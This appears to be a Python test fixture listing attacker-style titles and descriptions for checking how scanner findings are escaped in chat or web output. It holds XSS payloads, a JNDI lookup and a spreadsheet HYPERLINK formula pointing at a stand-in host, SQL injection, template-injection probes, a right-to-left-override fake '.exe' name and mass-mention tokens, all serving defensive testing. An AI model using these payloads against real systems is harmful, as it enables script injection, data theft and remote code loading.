"""Titles and descriptions as an attacker would write them: they come from scanners, so anybody may."""

from __future__ import annotations

PRODUCT = 'Acme <Shop> & "Checkout" *v2*'

TITLES = (
    "<!channel> *x* <https://evil.example|click> @here",
    "</script><img src=x onerror=alert(1)>",
    "invoice_\u202egpj.exe right-to-left override \u202d",
    ("Very long title " * 32)[:511],
    "{0.__class__} %s %(x)s ${jndi:ldap://evil.example/a} {{7*7}}",
    '=HYPERLINK("https://evil.example","open")',
    "```\ncode fence``` and `code` ~strike~ _it_ *bold*",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "日本語タイトル 🔥 مرحبا Ünïcödé \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "<at>everyone</at> <@U0123ABCD> <#C0123ABCD> <!subteam^S0123>",
    "tabs\tand\u2028line\u2029separators\x0band\u200bzero\u200bwidth",
    "&lt;b&gt; &amp;amp; &#x3C;script&#x3E; already escaped",
    "' OR 1=1 -- \" ; DROP TABLE findings",
    'false-positive 276 reason:"typed by a title"',
)

DESCRIPTION = """**Package:** None

# Heading *from a scanner*

<script>alert(document.cookie)</script> <img src=x onerror=alert(1)> <!channel> <@U0123ABCD>

| a | b |
|---|---|
| [click](https://evil.example) | ![x](https://evil.example/x.png) |

> token=ghp_EXAMPLE00000000000000000000000000000275
> Authorization: Bearer EXAMPLE.EXAMPLE.EXAMPLE

```
{0.__class__} %s %(x)s </code></pre> &lt;
```
"""
